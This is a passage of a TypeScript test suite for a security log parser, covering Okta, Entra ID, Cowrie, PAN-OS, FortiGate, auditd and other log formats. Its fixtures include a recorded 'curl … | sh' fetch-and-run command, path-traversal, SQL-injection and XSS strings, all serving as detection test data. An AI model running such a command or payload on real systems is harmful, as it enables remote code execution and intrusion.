    expect(JSON.parse(r.rows[2].extra as string)).toEqual({ continuation: 'true' });
    expect(r.rows[2].message).toBe('at com.example.Auth.check(Auth.java:42)');
  });

  it('a headerless table still asks for --map instead of being read as text', () => {
    expect(textSpec.detect(['2024-01-05T10:00:00Z,10.0.0.1,443,TCP', '2024-01-05T10:00:01Z,10.0.0.2,22,TCP'])).toBeNull();
    expect(textSpec.detect(['no time here', 'nor here'])).toBeNull();
  });

  it('a timed table whose last column is free text (loghub HealthApp) is read as text, saying it is also a table', () => {
    const lines = ['20171223-22:15:29:606|Step_LSC|30002312|onStandStepChanged 3579', '20171223-22:15:29:615|Step_LSC|30002312|onExtend:1514038530000 14 0 4', '20171223-22:15:29:633|Step_StandReportReceiver|30002312|onReceive action: android.intent.action.SCREEN_ON'];
    expect(textSpec.detect(lines)?.layout.hints).toEqual({ tableDelimiter: '|', tableColumns: 4 });
    const r = parseText(lines.join('\n') + '\n');
    expect(r.detected.layout.format).toBe('text');
    expect(r.rows.map((e) => e.ts)).toEqual([Date.UTC(2017, 11, 23, 22, 15, 29, 606), Date.UTC(2017, 11, 23, 22, 15, 29, 615), Date.UTC(2017, 11, 23, 22, 15, 29, 633)]);
    expect(r.rows[2].message).toMatch(/onReceive action: android\.intent\.action\.SCREEN_ON$/);
  });
});

describe('identity-provider sign-in exports', () => {
  it('Okta System Log: login events typed by outcome.result, the account from actor.alternateId; other event types untouched', () => {
    const ev = (type: string, result: string, user: string): string =>
      JSON.stringify({ uuid: 'u', published: '2024-03-10T06:00:00.000Z', eventType: type, outcome: { result, reason: 'INVALID_CREDENTIALS' }, actor: { alternateId: user }, client: { ipAddress: '203.0.113.111' } });
    const r = parseText([ev('user.session.start', 'FAILURE', 'ann@corp.example'), ev('user.authentication.sso', 'SUCCESS', 'bob@corp.example'), ev('policy.evaluate_sign_on', 'DENY', 'cy@corp.example')].join('\n') + '\n');
    expect(r.detected.layout.format).toBe('jsonl');
    expect(r.rows.map((e) => [e.action, e.user, e.src_ip])).toEqual([
      ['auth_failure', 'ann@corp.example', '203.0.113.111'],
      ['auth_success', 'bob@corp.example', '203.0.113.111'],
      [null, 'cy@corp.example', '203.0.113.111'],
    ]);
  });

  it('Cowrie honeypot JSON: login.failed / login.success with the account tried', () => {
    const ev = (id: string, user: string): string => JSON.stringify({ eventid: id, username: user, password: 'x', message: 'login attempt', sensor: 'hp1', timestamp: '2024-03-10T06:25:00.123456Z', src_ip: '45.95.147.10', session: 'a1' });
    const r = parseText([ev('cowrie.login.failed', 'root'), ev('cowrie.login.success', 'admin'), ev('cowrie.session.connect', '')].join('\n') + '\n');
    expect(r.rows.map((e) => [e.action, e.user, e.src_ip])).toEqual([
      ['auth_failure', 'root', '45.95.147.10'],
      ['auth_success', 'admin', '45.95.147.10'],
      [null, null, '45.95.147.10'],
    ]);
  });

  it('Entra ID sign-in logs: status.errorCode 0 is a success, any other code a failure', () => {
    const ev = (code: number, upn: string): string => JSON.stringify({ createdDateTime: '2024-03-10T06:00:00Z', userPrincipalName: upn, appDisplayName: 'Azure Portal', ipAddress: '198.51.100.201', status: { errorCode: code } });
    const r = parseText([ev(50126, 'ann@corp.example'), ev(0, 'bob@corp.example')].join('\n') + '\n');
    expect(r.rows.map((e) => [e.ts, e.action, e.user, e.src_ip])).toEqual([
      [Date.UTC(2024, 2, 10, 6), 'auth_failure', 'ann@corp.example', '198.51.100.201'],
      [Date.UTC(2024, 2, 10, 6), 'auth_success', 'bob@corp.example', '198.51.100.201'],
    ]);
  });

  it('Microsoft 365 unified audit log as JSON lines (AuditData expanded): ClientIP, UserId and sign-in operations', () => {
    const ev = (op: string, ip: string): string => JSON.stringify({ CreationTime: '2024-01-05T10:00:01', Id: 'a1', Operation: op, RecordType: 15, Workload: 'AzureActiveDirectory', ClientIP: ip, UserId: 'alice@contoso.com', ResultStatus: 'Failed' });
    const r = parseText([ev('UserLoginFailed', '203.0.113.5'), ev('UserLoggedIn', '[2001:db8::5]:443'), ev('MailItemsAccessed', '203.0.113.5')].join('\n') + '\n');
    expect(r.rows.map((e) => [e.src_ip, e.user, e.action])).toEqual([
      ['203.0.113.5', 'alice@contoso.com', 'auth_failure'],
      ['2001:db8::5', 'alice@contoso.com', 'auth_success'],
      ['203.0.113.5', 'alice@contoso.com', null],
    ]);
  });

  it('Entra ID exports with the object id beside the sign-in name count failures under the name', () => {
    const ev = (upn: string, id: string): string => JSON.stringify({ createdDateTime: '2024-03-10T06:00:00Z', userId: id, userPrincipalName: upn, ipAddress: '198.51.100.201', status: { errorCode: 50126 } });
    const r = parseText([ev('ann@corp.example', 'd7cc485d-0001'), ev('bob@corp.example', 'd7cc485d-0002')].join('\n') + '\n');
    expect(r.rows.map((e) => e.user)).toEqual(['ann@corp.example', 'bob@corp.example']);
  });
});

describe('nested JSON exports', () => {
  it('Elastic Common Schema: roles two levels down (http.response.status_code) are mapped; deeper objects stay JSON text', () => {
    const ev = (i: number): string =>
      JSON.stringify({
        '@timestamp': `2024-03-10T06:25:0${i}.000Z`,
        source: { ip: '203.0.113.33', port: 40000 + i },
        http: { request: { method: 'GET' }, response: { status_code: 404 } },
        url: { original: `/admin${i}.php` },
        user_agent: { original: 'gobuster/3.6' },
        a: { b: { c: { d: { e: 1 } } } },
      });
    const r = parseText([0, 1].map(ev).join('\n') + '\n');
    expect(r.detected.layout.mapping).toMatchObject({ method: 'http.request.method', status: 'http.response.status_code', path: 'url.original', user_agent: 'user_agent.original' });
    expect(r.rows.map((e) => [e.src_ip, e.method, e.status, e.path, e.user_agent])).toEqual([
      ['203.0.113.33', 'GET', 404, '/admin0.php', 'gobuster/3.6'],
      ['203.0.113.33', 'GET', 404, '/admin1.php', 'gobuster/3.6'],
    ]);
    expect(JSON.parse(r.rows[0].extra as string)).toEqual({ 'a.b.c.d': '{"e":1}' });
  });

  it('AWS WAF: the client, URI and query string from httpRequest', () => {
    const r = parseText(JSON.stringify({ timestamp: 1710051901000, action: 'BLOCK', httpRequest: { clientIp: '203.0.113.44', uri: '/products', args: 'id=1%20UNION%20SELECT%201', httpMethod: 'GET', headers: [{ name: 'User-Agent', value: 'sqlmap' }] } }) + '\n');
    expect(r.rows.map((e) => [e.ts, e.action, e.src_ip, e.method, e.path, e.query])).toEqual([[1710051901000, 'reject', '203.0.113.44', 'GET', '/products', 'id=1%20UNION%20SELECT%201']]);
  });
});

describe('application logs of the loghub collection (timestamped text)', () => {
  const one = (line: string, year = 2024): ReturnType<typeof parseText> => parseText(`${line}\n${line}\n`, { year });
  it.each([
    ['HDFS', '081109 203615 148 INFO dfs.DataNode$PacketResponder: PacketResponder 1 for block blk_388 terminating', Date.UTC(2008, 10, 9, 20, 36, 15), '081109 203615'],
    ['Spark', '17/06/09 20:10:40 INFO executor.CoarseGrainedExecutorBackend: Registered signal handlers', Date.UTC(2017, 5, 9, 20, 10, 40), '17/06/09 20:10:40'],
    ['Android logcat (no year)', '03-17 16:13:38.811  1702  2395 D WindowManager: printFreezingDisplayLogs', Date.UTC(2024, 2, 17, 16, 13, 38, 811), '03-17 16:13:38.811'],
    ['Proxifier (no year)', '[10.30 16:49:06] chrome.exe - proxy.example.hk:5070 open through proxy proxy.example.hk:5070 HTTPS', Date.UTC(2024, 9, 30, 16, 49, 6), '[10.30 16:49:06]'],
    ['BGL', '- 1117838570 2005.06.03 R02-M1-N0-C:J12-U11 2005-06-03-15.42.50.675872 R02-M1-N0-C:J12-U11 RAS KERNEL INFO instruction cache parity error corrected', 1117838570000, '1117838570'],
    ['OpenStack', 'nova-api.log.1.2017-05-16_13:53:08 2017-05-16 00:00:00.008 25746 INFO nova.osapi_compute.wsgi.server [req-38] 10.11.10.1 "GET /v2/servers/detail HTTP/1.1" status: 200', Date.UTC(2017, 4, 16, 0, 0, 0, 8), '2017-05-16 00:00:00.008'],
  ])('%s: the leading time is read, the text as written kept', (_name, line, ts, text) => {
    const r = one(line);
    expect(r.detected.layout.format).toBe('text');
    expect([r.rows[0].ts, r.rows[0].ts_text]).toEqual([ts, text]);
  });

  it('Tomcat (both JULI formats) and NLog: every line a record with its time, level and the real address, never a version', () => {
    const catalina = parseText(
      [
        '07-Dec-2026 10:15:30.125 INFO [main] org.apache.catalina.startup.VersionLoggerListener.log Server version number: 9.0.83.0',
        '07-Dec-2026 10:20:02.001 SEVERE [http-nio-8080-exec-4] org.apache.catalina.core.StandardWrapperValve.invoke Servlet.service() threw exception',
        '\tjava.lang.NullPointerException',
        '07-Dec-2026 10:21:00.000 WARNING [http-nio-8080-exec-5] org.apache.catalina.authenticator.FormAuthenticator Login failed for user admin from 203.0.113.45',
      ].join('\n') + '\n',
    );
    expect(catalina.detected.layout.format).toBe('text');
    expect(catalina.rows.map((e) => [e.ts, e.src_ip, e.extra === null ? null : ((JSON.parse(String(e.extra)) as { level?: string }).level ?? null)])).toEqual([
      [Date.UTC(2026, 11, 7, 10, 15, 30, 125), null, 'INFO'],
      [Date.UTC(2026, 11, 7, 10, 20, 2, 1), null, 'SEVERE'],
      [null, null, null],
      [Date.UTC(2026, 11, 7, 10, 21, 0, 0), '203.0.113.45', 'WARNING'],
    ]);
    // java.util.logging's SimpleFormatter: 12-hour clock, the level on the next line
    const jul = parseText('Dec 07, 2026 10:15:30 PM org.apache.catalina.startup.Catalina start\nINFO: Server startup in 1234 ms\nDec 07, 2026 12:05:01 AM org.apache.catalina.startup.Catalina stop\nINFO: Stopping\n');
    expect(jul.detected.layout.format).toBe('text');
    expect(jul.rows.map((e) => e.ts)).toEqual([Date.UTC(2026, 11, 7, 22, 15, 30), null, Date.UTC(2026, 11, 7, 0, 5, 1), null]);
    // NLog's default layout: the first line is a record, not a header
    const nlog = parseText('2026-12-07 10:15:30.1234|INFO|MyApp.Program|Application started\n2026-12-07 10:15:31.0042|WARN|MyApp.Auth.LoginService|Login failed for user bob from 198.51.100.23\n2026-12-07 10:15:33.0000|INFO|MyApp.Program|Shutting down\n');
    expect(nlog.detected.layout.format).toBe('text');
    expect(nlog.rows.map((e) => [e.ts, e.src_ip, e.message])).toEqual([
      [Date.UTC(2026, 11, 7, 10, 15, 30, 123), null, 'MyApp.Program|Application started'],
      [Date.UTC(2026, 11, 7, 10, 15, 31, 4), '198.51.100.23', 'MyApp.Auth.LoginService|Login failed for user bob from 198.51.100.23'],
      [Date.UTC(2026, 11, 7, 10, 15, 33, 0), null, 'MyApp.Program|Shutting down'],
    ]);
  });

  it("Windows DHCP Server's audit log: the table after its legend, two-digit years, each lease's address, name and MAC", () => {
    const r = parseText(
      [
        '\t\tMicrosoft DHCP Service Activity Log',
        '',
        '',
        'Event ID  Meaning',
        '00\tThe log was started.',
        '10\tA new IP address was leased to a client.',
        '',
        'ID,Date,Time,Description,IP Address,Host Name,MAC Address,User Name, TransactionID, QResult,Probationtime, CorrelationID,Dhcid,VendorClass(Hex),VendorClass(ASCII),UserClass(Hex),UserClass(ASCII),RelayAgentInformation,DnsRegError.',
        '00,12/07/26,10:15:30,Started,,,,,0,6,,,,,,,,,0',
        '10,12/07/26,10:16:01,Assign,10.0.0.57,LAPTOP-7.corp.example,A4B1C2D3E4F5,,3214567,0,,,,0x4D53465420352E30,MSFT 5.0,,,,0',
        '11,12/08/26,09:20:44,Renew,10.0.0.23,WS-023.corp.example,00155D012345,,2914567,0,,,,0x4D53465420352E30,MSFT 5.0,,,,0',
      ].join('\r\n') + '\r\n',
    );
    expect([r.detected.layout.format, r.detected.layout.firstRecordLine, r.records, r.rows.length, r.quarantined.length]).toEqual(['csv', 9, 3, 3, 0]);
    expect(r.rows.map((e) => [e.ts, e.src_ip, e.host])).toEqual([
      [Date.UTC(2026, 11, 7, 10, 15, 30), null, null],
      [Date.UTC(2026, 11, 7, 10, 16, 1), '10.0.0.57', 'LAPTOP-7.corp.example'],
      [Date.UTC(2026, 11, 8, 9, 20, 44), '10.0.0.23', 'WS-023.corp.example'],
    ]);
    expect(JSON.parse(String(r.rows[1]!.extra))).toMatchObject({ Description: 'Assign', 'MAC Address': 'A4B1C2D3E4F5' });
  });

  it('a month or day that does not exist is no time', () => {
    const r = parseText('03-17 16:13:38.811  1702  2395 D x\n13-17 16:13:38.811  1702  2395 D y\n03-32 16:13:38.811  1702  2395 D z\n03-18 16:13:38.811  1702  2395 D w\n03-19 16:13:38.811  1702  2395 D v\n', { year: 2024 });
    expect(r.rows.map((e) => e.ts)).toEqual([Date.UTC(2024, 2, 17, 16, 13, 38, 811), null, null, Date.UTC(2024, 2, 18, 16, 13, 38, 811), Date.UTC(2024, 2, 19, 16, 13, 38, 811)]);
  });
});

describe('addresses and roles as JSON and key=value exports write them', () => {
  it('address:port, address:port:interface, [v6]:port and a list keep the address; the port fills an empty port column', () => {
    const r = parseText(
      [
        JSON.stringify({ time: '2024-03-05T10:00:00Z', ClientAddr: '203.0.113.13:40000', ClientHost: '203.0.113.13', DownstreamStatus: 404, RequestPath: '/../../etc/passwd', RequestMethod: 'GET', RequestHost: 'app.example.com' }),
        JSON.stringify({ time: '2024-03-05T10:00:01Z', ClientAddr: '[2001:db8::5]:443', ClientHost: '2001:db8::5', DownstreamStatus: 200, RequestPath: '/', RequestMethod: 'GET', RequestHost: 'app.example.com' }),
      ].join('\n') + '\n',
    );
    expect(r.detected.layout.mapping).toMatchObject({ src_ip: 'ClientAddr', status: 'DownstreamStatus', host: 'RequestHost' });
    expect(r.rows.map((e) => [e.src_ip, e.src_port, e.status, e.host, e.dst_ip])).toEqual([
      ['203.0.113.13', 40000, 404, 'app.example.com', null],
      ['2001:db8::5', 443, 200, 'app.example.com', null],
    ]);
    const sw = parseText('id=firewall time="2024-03-05 10:00:01" fw=198.51.100.1 msg="Connection Opened" src=203.0.113.121:50001:X1 dst=10.0.0.10:22:X0 proto=tcp/22 fw_action="drop"\n');
    expect([sw.rows[0].src_ip, sw.rows[0].src_port, sw.rows[0].dst_ip, sw.rows[0].dst_port, sw.rows[0].action]).toEqual(['203.0.113.121', 50001, '10.0.0.10', 22, 'reject']);
    // a listen address is no client; a host name still names one
    const go = parseText('ts=2024-01-05T10:00:04Z level=info msg="listening" addr=:8080\nts=2024-01-05T10:00:05Z level=warn msg="login failed" user=admin addr=192.0.2.77 status=401\nts=2024-01-05T10:00:06Z level=warn msg="login failed" addr=crawl-1.example.net status=401\n');
    expect(go.rows.map((e) => e.src_ip)).toEqual([null, '192.0.2.77', 'crawl-1.example.net']);
    const k8s = parseText(JSON.stringify({ requestReceivedTimestamp: '2024-03-05T10:00:00.000000Z', verb: 'list', requestURI: '/api/v1/secrets', sourceIPs: ['203.0.113.66', '10.0.0.1'], user: { username: 'system:anonymous' }, responseStatus: { code: 403 } }) + '\n');
    expect([k8s.rows[0].src_ip, k8s.rows[0].user, k8s.rows[0].status, k8s.rows[0].path]).toEqual(['203.0.113.66', 'system:anonymous', 403, '/api/v1/secrets']);
  });

  it('fields inside containers map by their own name (GCP httpRequest.*, winlog.event_data.*), never an NTSTATUS as an HTTP status', () => {
    const gcp = parseText(JSON.stringify({ timestamp: '2024-03-05T10:00:00Z', httpRequest: { requestMethod: 'POST', requestUrl: 'https://shop.example.com/wp-login.php', status: 401, remoteIp: '198.51.100.44', userAgent: 'curl/8' } }) + '\n');
    expect([gcp.rows[0].src_ip, gcp.rows[0].method, gcp.rows[0].status, gcp.rows[0].user_agent]).toEqual(['198.51.100.44', 'POST', 401, 'curl/8']);
    const ev = (code: string, action: string): string =>
      JSON.stringify({ '@timestamp': '2024-03-05T10:00:00.123Z', event: { code, provider: 'Microsoft-Windows-Security-Auditing', action }, winlog: { event_id: code, event_data: { TargetUserName: 'user0', IpAddress: '203.0.113.99', IpPort: '51000', Status: '0xc000006d' } } });
    const w = parseText([ev('4625', 'Logon'), ev('4624', 'Logon'), ev('4625', 'logon-failed')].join('\n') + '\n');
    expect(w.detected.layout.mapping.status).toBeUndefined();
    // Winlogbeat's event.action ("Logon") is a verb, not an outcome: the event id decides
    expect(w.rows.map((e) => [e.action, e.src_ip, e.src_port, e.user, e.status])).toEqual([
      ['auth_failure', '203.0.113.99', 51000, 'user0', null],
      ['auth_success', '203.0.113.99', 51000, 'user0', null],
      ['auth_failure', '203.0.113.99', 51000, 'user0', null],
    ]);
  });

  it("a Splunk HEC envelope's `event.` keys map by their own names: the client is ClientIP, not the server's address before it", () => {
    // a Zscaler NSS web feed sent to Splunk: serverip comes first, and by values alone the first address would be the source
    const rec = (client: string, server: string, status: string, user: string): string =>
      JSON.stringify({ sourcetype: 'zscalernss-web', event: { datetime: 'Mon Nov 30 10:01:02 2026', action: 'Blocked', serverip: server, requestmethod: 'GET', useragent: 'curl/8.0', ClientIP: client, status, user, url: 'evil.example.net/payload.exe', hostname: 'evil.example.net', responsesize: '0', threatname: '<script>alert(1)</script>' } });
    const r = parseText([rec('10.1.1.6', '203.0.113.13', '403', 'bob@example.com'), rec('10.1.1.7', '203.0.113.14', '200', 'eve@example.com')].join('\n') + '\n');
    expect(r.rows.map((e) => [e.ts, e.src_ip, e.dst_ip, e.status, e.user, e.host, e.action])).toEqual([
      [Date.UTC(2026, 10, 30, 10, 1, 2), '10.1.1.6', '203.0.113.13', 403, 'bob@example.com', 'evil.example.net', 'reject'],
      [Date.UTC(2026, 10, 30, 10, 1, 2), '10.1.1.7', '203.0.113.14', 200, 'eve@example.com', 'evil.example.net', 'reject'],
    ]);
    // without the envelope's sourcetype, `event.` is only a prefix (ECS's event.category is no attack category)
    const ecs = parseText(JSON.stringify({ '@timestamp': '2024-03-05T10:00:00Z', source: { ip: '198.51.100.9' }, event: { category: 'authentication', duration: '5000000' } }) + '\n');
    expect([ecs.rows[0].src_ip, ecs.rows[0].category, ecs.rows[0].duration]).toEqual(['198.51.100.9', null, null]);
  });
});

describe('Linux audit.log', () => {
  it('time from audit(epoch:serial), the inner message unwrapped; USER_AUTH failures are failed logins', () => {
    const r = parseText(
      [
        `type=USER_AUTH msg=audit(1709632800.200:2100): pid=3000 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.55 addr=203.0.113.55 terminal=ssh res=failed'`,
        `type=USER_LOGIN msg=audit(1709632801.101:2001): pid=3001 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.55 terminal=ssh res=failed'UID="root" AUID="unset"`,
        `type=USER_LOGIN msg=audit(1709632900.000:2002): pid=3002 uid=0 auid=1000 ses=7 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=10.0.0.7 addr=10.0.0.7 terminal=/dev/pts/0 res=success'`,
        `type=SYSCALL msg=audit(1709632901.000:2003): arch=c000003e syscall=59 success=yes exit=0 a0=55d comm="bash" exe="/usr/bin/bash" key="exec"`,
        // auditd writes odd names in hex; a quote inside a name must not end the inner message
        `type=USER_AUTH msg=audit(1709632902.000:2004): pid=3003 uid=0 msg='op=PAM:authentication acct=28696E76616C6964207573657229 exe="/usr/sbin/sshd" addr=203.0.113.56 res=failed'`,
        `type=USER_AUTH msg=audit(1709632903.000:2005): pid=3004 uid=0 msg='op=PAM:authentication acct="ro'ot" exe="/usr/sbin/sshd" addr=203.0.113.57 res=failed'`,
      ].join('\n') + '\n',
    );
    expect(r.detected.layout.format).toBe('kv');
    expect(r.quarantined).toEqual([]);
    expect(r.rows.map((e) => [e.ts, e.src_ip, e.user, e.action])).toEqual([
      [1709632800200, '203.0.113.55', 'root', 'auth_failure'],
      [1709632801101, '203.0.113.55', 'root', null],
      // a USER_LOGIN names its account by id (the ENRICHED format adds the name)
      [1709632900000, '10.0.0.7', 'uid 1000', 'auth_success'],
      [1709632901000, null, null, null],
      [1709632902000, '203.0.113.56', '(invalid user)', 'auth_failure'],
      [1709632903000, '203.0.113.57', "ro'ot", 'auth_failure'],
    ]);
  });
});

describe("ausearch's output (-i: interpreted, local times; without: time-> lines)", () => {
  it('the date in audit(…) is the time, `----` and `time->` lines are separators, a failed USER_AUTH is a failed login, an EXECVE keeps its arguments', () => {
    const r = parseText(
      [
        '----',
        'type=EXECVE msg=audit(12/01/2026 09:00:00.123:456) : argc=3 a0=bash a1=-c a2=curl http://198.51.100.7/x.sh | sh',
        'type=SYSCALL msg=audit(12/01/2026 09:00:00.123:456) : arch=x86_64 syscall=execve success=yes exit=0 ppid=1000 pid=1001 auid=bob uid=bob comm=bash exe=/usr/bin/bash key=exec',
        '----',
        "type=USER_AUTH msg=audit(12/01/2026 09:00:05.000:460) : pid=2000 uid=root auid=unset ses=unset msg='op=PAM:authentication grantors=? acct=root exe=/usr/sbin/sshd hostname=203.0.113.5 addr=203.0.113.5 terminal=ssh res=failed'",
        '----',
        'time->Tue Dec  1 09:00:06 2026',
        "type=USER_AUTH msg=audit(1796115606.000:461): pid=2001 uid=0 msg='op=PAM:authentication acct=\"admin\" exe=\"/usr/sbin/sshd\" addr=203.0.113.5 terminal=ssh res=failed'",
      ].join('\n') + '\n',
      { tz: 'UTC' },
    );
    expect(r.quarantined).toEqual([]);
    // the separators are not records: four records, four events
    expect([r.records, r.rows.length]).toEqual([4, 4]);
    expect(r.rows.map((e) => [e.ts, e.src_ip, e.user, e.action])).toEqual([
      [Date.UTC(2026, 11, 1, 9, 0, 0, 123), null, null, null],
      [Date.UTC(2026, 11, 1, 9, 0, 0, 123), null, null, null],
      [Date.UTC(2026, 11, 1, 9, 0, 5), '203.0.113.5', 'root', 'auth_failure'],
      [Date.UTC(2026, 11, 1, 9, 0, 6), '203.0.113.5', 'admin', 'auth_failure'],
    ]);
    expect(JSON.parse(r.rows[0]!.extra as string)).toMatchObject({ type: 'EXECVE', a2: 'curl http://198.51.100.7/x.sh | sh' });
  });
});

describe('Palo Alto PAN-OS syslog', () => {
  it('TRAFFIC and THREAT records are connections dated by their own full date; SYSTEM and GlobalProtect auth failures are failed logins', () => {
    const r = parseText(
      [
        '<14>Mar  5 10:00:00 PA-3220 1,2023/03/05 10:00:00,013201001234,TRAFFIC,drop,2560,2023/03/05 10:00:00,203.0.113.21,10.0.0.10,0.0.0.0,0.0.0.0,deny-all,,,not-applicable,vsys1,untrust,trust,ethernet1/1,,Log-Fwd,2023/03/05 10:00:00,0,1,55550,3389,0,0,0x0,tcp,deny,60,60,0,1,2023/03/05 10:00:00,0,any,0,70000000,0x0,US,10.0.0.0-10.255.255.255,0,1,0,policy-deny',
        '<14>Mar  5 10:01:00 PA-3220 1,2023/03/05 10:01:00,013201001234,THREAT,vulnerability,2560,2023/03/05 10:01:00,203.0.113.22,10.0.0.10,0.0.0.0,0.0.0.0,allow-web,,,web-browsing,vsys1,untrust,trust,ethernet1/1,ethernet1/2,Log-Fwd,2023/03/05 10:01:00,123,1,51515,80,0,0,0x2000,tcp,reset-both,"cgi-bin/../../../../etc/passwd",HTTP Directory Traversal Request Attempt(30844),any,critical,client-to-server,123',
        `<14>Mar  5 10:02:00 PA-3220 1,2023/03/05 10:02:00,013201001234,SYSTEM,auth,2560,2023/03/05 10:02:00,,auth-fail,,0,0,general,medium,"failed authentication for user 'admin'. Reason: Invalid username/password. From: 198.51.100.71.",1234,0x0,0,0,0,0,,PA-3220`,
        '<14>Mar  5 10:02:01 PA-3220 1,2023/03/05 10:02:01,013201001234,SYSTEM,globalprotect,2560,2023/03/05 10:02:01,,globalprotectgateway-auth-fail,GP-GW,0,0,general,informational,"GlobalProtect gateway user authentication failed. Login from: 198.51.100.72, Source region: US, User name: jdoe, Reason: Authentication failed"',
      ].join('\n') + '\n',
      { year: 2026 },
    );
    expect(r.detected.layout.format).toBe('syslog');
    expect(r.rows.map((e) => [e.ts, e.ts_text, e.src_ip, e.src_port, e.dst_ip, e.dst_port, e.proto, e.action, e.user, e.bytes])).toEqual([
      [Date.UTC(2023, 2, 5, 10, 0, 0), '2023/03/05 10:00:00', '203.0.113.21', 55550, '10.0.0.10', 3389, 'TCP', 'reject', null, 60],
      [Date.UTC(2023, 2, 5, 10, 1, 0), '2023/03/05 10:01:00', '203.0.113.22', 51515, '10.0.0.10', 80, 'TCP', 'reject', null, null],
      [Date.UTC(2023, 2, 5, 10, 2, 0), '2023/03/05 10:02:00', '198.51.100.71', null, null, null, null, 'auth_failure', 'admin', null],
      [Date.UTC(2023, 2, 5, 10, 2, 1), '2023/03/05 10:02:01', '198.51.100.72', null, null, null, null, 'auth_failure', 'jdoe', null],
    ]);
    expect([r.rows[1].path, r.rows[1].message, r.rows[1].category]).toEqual(['cgi-bin/../../../../etc/passwd', 'HTTP Directory Traversal Request Attempt(30844)', 'any']);
    expect(JSON.parse(r.rows[0].extra as string)).toMatchObject({ log_type: 'TRAFFIC', rule: 'deny-all' });
    expect(JSON.parse(r.rows[0].extra as string)._time).toBeUndefined();
    // numbers are decimal digits only: 0x50 and 1e3 are no ports
    const odd = parseText('<14>Mar  5 10:00:00 PA-3220 1,2023/03/05 10:00:00,013201001234,TRAFFIC,drop,2560,2023/03/05 10:00:00,203.0.113.21,10.0.0.10,0.0.0.0,0.0.0.0,deny-all,,,not-applicable,vsys1,untrust,trust,ethernet1/1,,Log-Fwd,2023/03/05 10:00:00,0,1,0x50,1e3,0,0,0x0,tcp,deny,0b101,60,0, 7 \n', { year: 2026 });
    expect([odd.rows[0].src_port, odd.rows[0].dst_port, odd.rows[0].bytes, odd.rows[0].packets]).toEqual([null, null, null, null]);
  });
});

describe('more login services in syslog', () => {
  it('ProFTPD, OpenVPN and Cisco ASA WebVPN authentication results', () => {
    const r = syslog(
      'Mar  5 10:00:00 ftp proftpd[300]: ftp.example.com (198.51.100.104[198.51.100.104]) - USER admin (Login failed): Incorrect password',
      'Mar  5 10:00:01 ftp proftpd[301]: ftp.example.com (host.example.net[198.51.100.105]) - USER bob: Login successful.',
      'Mar  5 10:00:02 ftp proftpd[302]: ftp.example.com (198.51.100.106[198.51.100.106]) - USER nosuch: no such user found from 198.51.100.106 [198.51.100.106] to 10.0.0.2:21',
      'Mar  5 10:00:03 vpn openvpn[400]: 198.51.100.107:50000 TLS Auth Error: Auth Username/Password verification failed for peer',
      'Mar  5 10:00:04 vpn openvpn[400]: jdoe/198.51.100.108:50001 TLS Auth Error: Auth Username/Password verification failed for peer',
      'Mar  5 10:00:05 asa %ASA-6-716039: Group <DfltGrpPolicy> User <admin> IP <198.51.100.64> Authentication: rejected, Session Type: WebVPN.',
    );
    expect(r.rows.map((e) => [e.action, e.src_ip, e.src_port, e.user])).toEqual([
      ['auth_failure', '198.51.100.104', null, 'admin'],
      ['auth_success', '198.51.100.105', null, 'bob'],
      ['auth_failure', '198.51.100.106', null, 'nosuch'],
      ['auth_failure', '198.51.100.107', 50000, null],
      ['auth_failure', '198.51.100.108', 50001, null],
      ['auth_failure', '198.51.100.64', null, 'admin'],
    ]);
  });
});

describe('FortiGate event logs', () => {
  it('eventtime (UTC) or date+time in the log\'s tz; admin and SSL-VPN login failures typed, their status kept', () => {
    const r = parseText(
      [
        'date=2024-03-05 time=10:00:01 devname="FG100F" devid="FG100FTK2" eventtime=1709629201123456789 tz="+0100" logid="0100032002" type="event" subtype="system" logdesc="Admin login failed" user="admin" srcip=198.51.100.81 dstip=10.0.0.1 action="login" status="failed" reason="name_invalid"',
        'date=2024-03-05 time=10:00:02 devname="FG100F" devid="FG100FTK2" tz="+0100" logid="0101039426" type="event" subtype="vpn" logdesc="SSL VPN login fail" action="ssl-login-fail" remip=198.51.100.82 user="jdoe" reason="sslvpn_login_permission_denied"',
        'date=2024-03-05 time=10:00:03 devname="FG100F" devid="FG100FTK2" eventtime=1709629203000000000 tz="+0100" logid="0100032001" type="event" subtype="system" logdesc="Admin login successful" user="admin" srcip=10.0.0.5 dstip=10.0.0.1 action="login" status="success"',
      ].join('\n') + '\n',
    );
    expect(r.detected.layout.format).toBe('kv');
    expect(r.rows.map((e) => [e.ts, e.src_ip, e.user, e.action, e.status])).toEqual([
      [Date.UTC(2024, 2, 5, 9, 0, 1, 123), '198.51.100.81', 'admin', 'auth_failure', null],
      [Date.UTC(2024, 2, 5, 9, 0, 2), '198.51.100.82', 'jdoe', 'auth_failure', null],
      [Date.UTC(2024, 2, 5, 9, 0, 3), '10.0.0.5', 'admin', 'auth_success', null],
    ]);
    expect(JSON.parse(r.rows[0].extra as string)).toMatchObject({ status: 'failed' });
    expect(r.report.columns.status?.unparseable ?? 0).toBe(0);
  });
});

describe('firewalls that write structured fields', () => {
  it('Juniper SRX: RFC 5424 structured data fills addresses, ports and protocol; the verdict from the message', () => {
    const r = parseText(
      '<14>1 2024-03-05T10:00:01.123+01:00 srx01 RT_FLOW - RT_FLOW_SESSION_DENY [junos@2636.1.1.1.2.129 source-address="203.0.113.120" source-port="40001" destination-address="10.0.0.10" destination-port="22" service-name="None" protocol-id="6" policy-name="deny-all" username="N/A" reason="policy deny \\] escaped"] session denied 203.0.113.120/40001->10.0.0.10/22 0x0 None 6(0) deny-all\n',
    );
    expect(r.detected.layout.format).toBe('syslog');
    const e = r.rows[0];
    expect([e.ts, e.src_ip, e.src_port, e.dst_ip, e.dst_port, e.proto, e.action, e.user, e.message]).toEqual([Date.UTC(2024, 2, 5, 9, 0, 1, 123), '203.0.113.120', 40001, '10.0.0.10', 22, 'TCP', 'reject', null, 'session denied 203.0.113.120/40001->10.0.0.10/22 0x0 None 6(0) deny-all']);
  });

  it('structured data that never closes leaves the text as the message', () => {
    const r = parseText('<14>1 2024-03-05T10:00:01Z host APP - MSGID [id@1 src="1.2.3.4" unterminated bracket msg\n');
    expect(r.rows[0].message).toBe('[id@1 src="1.2.3.4" unterminated bracket msg');
    // its complete k="v" pairs are still read
    expect(r.rows[0].src_ip).toBe('1.2.3.4');
  });

  it("Check Point: a numeric service is the destination port, FortiGate's service name is not", () => {
